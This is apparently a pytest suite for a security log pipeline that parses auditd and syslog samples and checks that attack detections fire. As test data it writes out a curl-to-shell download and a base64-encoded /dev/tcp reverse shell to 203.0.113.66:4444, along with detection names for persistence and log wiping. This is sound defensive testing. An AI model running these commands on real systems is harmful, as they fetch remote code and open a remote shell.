"""The embedded runner end to end: bundled samples and msticpy's audit log in, documents out."""

from __future__ import annotations

import asyncio
import base64
import gzip
import re
from collections import Counter
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from schemas import loads, schema_for
from streams.build import build_pipeline
from streams.config import SecstreamConfig, bundled_config_dir, load_config
from streams.runner import InputSpec, OutputSink, RunResult, run_pipeline

SAMPLES = bundled_config_dir() / "samples"


async def _run(
    inputs: list[InputSpec], out: Path, config: SecstreamConfig | None = None, batch_lines: int = 50
) -> RunResult:
    pipeline = await build_pipeline(config or load_config(environ={}))
    sink = OutputSink(out)
    try:
        return await run_pipeline(pipeline, inputs, sink, batch_lines=batch_lines)
    finally:
        sink.close()
        await pipeline.close()


def _read(path: Path) -> list[dict[str, Any]]:
    return [loads(line) for line in path.read_bytes().splitlines()]


def _validate_all(out: Path) -> dict[str, list[dict[str, Any]]]:
    docs = {}
    for stream, name in (("events", "events"), ("detections", "detections"), ("deadletter", "deadletter")):
        docs[stream] = _read(out / f"{name}.jsonl")
        validator = jsonschema.Draft202012Validator(schema_for(stream))
        for doc in docs[stream]:
            validator.validate(doc)
    return docs


def _distinct_audit_events(path: Path) -> int:
    return len(set(re.findall(rb"^(node=\S+ )?type=\S+ msg=audit\(([0-9.]+:[0-9]+)\)", path.read_bytes(), re.M)))


@pytest.fixture(scope="module")
def sample_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[RunResult, dict[str, list[dict[str, Any]]]]:
    out = tmp_path_factory.mktemp("samples")
    result = asyncio.run(
        _run([InputSpec(str(SAMPLES / "audit.log"), "auditd"), InputSpec(str(SAMPLES / "syslog.log"), "syslog")], out)
    )
    return result, _validate_all(out)


def _exec(events: list[dict[str, Any]], command_line: str) -> dict[str, Any]:
    found = [doc for doc in events if doc.get("process", {}).get("command_line") == command_line]
    assert len(found) == 1, command_line
    return found[0]


class TestBundledSamples:
    async def test_every_event_comes_out_once(self, sample_run: Any) -> None:
        """Each distinct audit event and each syslog line yields exactly one event document."""
        _result, docs = sample_run
        audit = [
            d for d in docs["events"] if d["event"]["module"] == "auditd" and d["event"]["action"] != "session_summary"
        ]
        syslog = [
            d for d in docs["events"] if d["event"]["module"] == "syslog" and d["event"]["action"] != "session_summary"
        ]
        assert len(audit) == _distinct_audit_events(SAMPLES / "audit.log")
        assert len(syslog) == len((SAMPLES / "syslog.log").read_text().splitlines())
        ids = [d["event"]["id"] for d in docs["events"]]
        assert len(ids) == len(set(ids))
        assert docs["deadletter"] == []

    async def test_the_attacks_are_detected(self, sample_run: Any) -> None:
        """Every attack in the sample raises its detection."""
        _result, docs = sample_run
        names = {d["rule"]["name"] for d in docs["detections"]}
        assert {
            "Download piped to a shell",
            "Base64-decoded payload piped to a shell",
            "Reverse shell through /dev/tcp or /dev/udp",
            "SSH authorized_keys modified",
            "Local account created",
            "Cron persistence",
            "System logs wiped",
            "Shell history cleared or disabled",
            "Rapid command execution",
        } <= names
        ids = [d["event"]["id"] for d in docs["detections"]]
        assert len(ids) == len(set(ids))

    async def test_lineage_survives_pid_reuse(self, sample_run: Any) -> None:
        """PID 2021 is curl under alice's bash first, then logrotate under init: each gets its own parent."""
        _result, docs = sample_run
        curl = _exec(docs["events"], "curl -fsSL http://203.0.113.66/x.sh")
        logrotate = _exec(docs["events"], "/usr/sbin/logrotate /etc/logrotate.conf")
        assert curl["process"]["pid"] == logrotate["process"]["pid"] == 2021
        assert curl["process"]["parent"]["pid"] == 2020
        assert curl["process"]["parent"]["command_line"] == "bash -c curl -fsSL http://203.0.113.66/x.sh | sh"
        assert logrotate["process"]["parent"]["pid"] == 1
        assert curl["process"]["entity_id"] != logrotate["process"]["entity_id"]

    async def test_base64_payload_is_decoded_and_enriched(self, sample_run: Any) -> None:
        """The reverse shell's base64 is decoded, its IoCs extracted, and the C2 address found in the blocklist."""
        _result, docs = sample_run
        payload = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1").decode()
        doc = _exec(docs["events"], f"bash -c echo {payload} | base64 -d | bash")
        assert any("/dev/tcp/203.0.113.66/4444" in layer.get("text", "") for layer in doc["secstream"]["decoded"])
        assert "203.0.113.66" in doc["secstream"]["iocs"]["ipv4"]
        hits = doc["threat"]["enrichments"]
        assert hits and hits[0]["matched"]["atomic"] == "203.0.113.66"
        assert hits[0]["indicator"]["type"] == "ipv4-addr"

    async def test_connect_is_decoded(self, sample_run: Any) -> None:
        """The connect syscall's SOCKADDR becomes destination.ip/port."""
        _result, docs = sample_run
        connects = [d for d in docs["events"] if d["event"]["action"] == "connect"]
        assert [(d["destination"]["ip"], d["destination"]["port"]) for d in connects] == [("203.0.113.66", 4444)]

    async def test_event_without_eoe_is_flushed_as_partial(self, sample_run: Any) -> None:
        """The db-01 event whose EOE was lost still comes out, marked partial."""
        result, docs = sample_run
        psql = _exec(docs["events"], "psql -c select 1")
        assert psql["host"]["name"] == "db-01"
        assert result.stats.audit["partial"] >= 1

    async def test_same_input_gives_same_output(self, sample_run: Any, tmp_path: Path) -> None:
        """A second run over the same input produces byte-identical events and detections."""
        _result, docs = sample_run
        await _run(
            [InputSpec(str(SAMPLES / "audit.log"), "auditd"), InputSpec(str(SAMPLES / "syslog.log"), "syslog")],
            tmp_path,
        )
        assert _read(tmp_path / "events.jsonl") == docs["events"]
        assert _read(tmp_path / "detections.jsonl") == docs["detections"]


class TestMsticpyAuditLog:
    async def test_auditd_log_gives_938_events(self, msticpy_testdata: Path, tmp_path: Path) -> None:
        """msticpy's auditd_log.txt holds 938 distinct events (msticpy itself reports 381)."""
        result = await _run([InputSpec(str(msticpy_testdata / "auditd_log.txt"), "auditd")], tmp_path)
        docs = _validate_all(tmp_path)
        audit = [d for d in docs["events"] if d["event"]["action"] != "session_summary"]
        assert len(audit) == 938
        assert result.stats.lines_in["auditd"] == 1708
        assert docs["deadletter"] == []

    async def test_output_does_not_depend_on_batch_size(self, msticpy_testdata: Path, tmp_path: Path) -> None:
        """Cutting the same input into batches of 7, 200 or 2000 lines gives identical documents."""
        outputs = []
        for size in (7, 200, 2000):
            await _run(
                [InputSpec(str(msticpy_testdata / "auditd_log.txt"), "auditd")], tmp_path / str(size), None, size
            )
            outputs.append(
                (
                    (tmp_path / str(size) / "events.jsonl").read_bytes(),
                    (tmp_path / str(size) / "detections.jsonl").read_bytes(),
                )
            )
        assert outputs[0] == outputs[1] == outputs[2]


class TestBadInput:
    async def test_garbage_goes_to_dead_letters_and_the_run_goes_on(self, tmp_path: Path) -> None:
        """Binary garbage, truncated, oversized and mis-encoded lines become dead letters with their bytes."""
        good = (SAMPLES / "audit.log").read_bytes().splitlines(keepends=True)[:6]
        bad = [
            b"\x00\x01\x02\xff\xfe garbage\n",
            b"node=web-01 type=SYSCALL msg=audit(1795766401.000:\n",
            b"type=EXECVE msg=audit(1795766401.000:77): argc=1 a0=" + b"A" * 70000 + b"\n",
            "type=USER_CMD msg=audit(1795766401.000:78): cmd=caf\xe9\n".encode("latin-1"),
            b"this is not an audit record at all\n",
        ]
        path = tmp_path / "mixed.log.gz"
        path.write_bytes(gzip.compress(b"".join(bad[:2] + good[:3] + bad[2:] + good[3:])))
        result = await _run([InputSpec(str(path), "auditd")], tmp_path / "out")
        docs = _validate_all(tmp_path / "out")
        originals = Counter(base64.b64decode(d["secstream"]["original_base64"]) for d in docs["deadletter"])
        for line in bad:
            assert originals[line.rstrip(b"\n")] == 1, line[:60]
        assert all(d["event"]["reason"] for d in docs["deadletter"])
        assert all(d["secstream"]["source"]["file"] == str(path) for d in docs["deadletter"])
        assert sum(result.stats.bad_input.values()) == len(docs["deadletter"])
        assert any(d["event"]["module"] == "auditd" for d in docs["events"])


class TestSyslogFormats:
    async def test_rfc3164_lines_take_the_year_they_are_read_in(self, tmp_path: Path) -> None:
        """BSD syslog lines (no year) are events, dated in the year they were read, with the default config."""
        import datetime as dt

        path = tmp_path / "auth.log"
        path.write_text(
            "Nov 27 08:00:11 web-01 sshd[1991]: Accepted publickey for alice from 198.51.100.23 port 52144 ssh2\n"
            "<86>Nov 27 08:00:12 web-01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n"
        )
        await _run([InputSpec(str(path), "syslog")], tmp_path / "out")
        docs = _validate_all(tmp_path / "out")
        assert docs["deadletter"] == []
        assert [d["event"]["action"] for d in docs["events"]] == ["ssh_login", "sudo_command"]
        year = dt.datetime.now(dt.UTC).year
        assert all(d["@timestamp"].startswith(f"{year}-11-27T08:00:1") for d in docs["events"])

    async def test_configured_year_makes_replays_reproducible(self, tmp_path: Path) -> None:
        """With input.syslog_year set, BSD syslog lines get that year."""
        path = tmp_path / "auth.log"
        path.write_text("Jul 10 15:13:26 host sshd[1]: Accepted password for bob from 203.0.113.9 port 22 ssh2\n")
        await _run(
            [InputSpec(str(path), "syslog")],
            tmp_path / "out",
            load_config(environ={"SECSTREAM_INPUT__SYSLOG_YEAR": "2019"}),
        )
        docs = _validate_all(tmp_path / "out")
        assert docs["events"][0]["@timestamp"] == "2019-07-10T15:13:26.000Z"
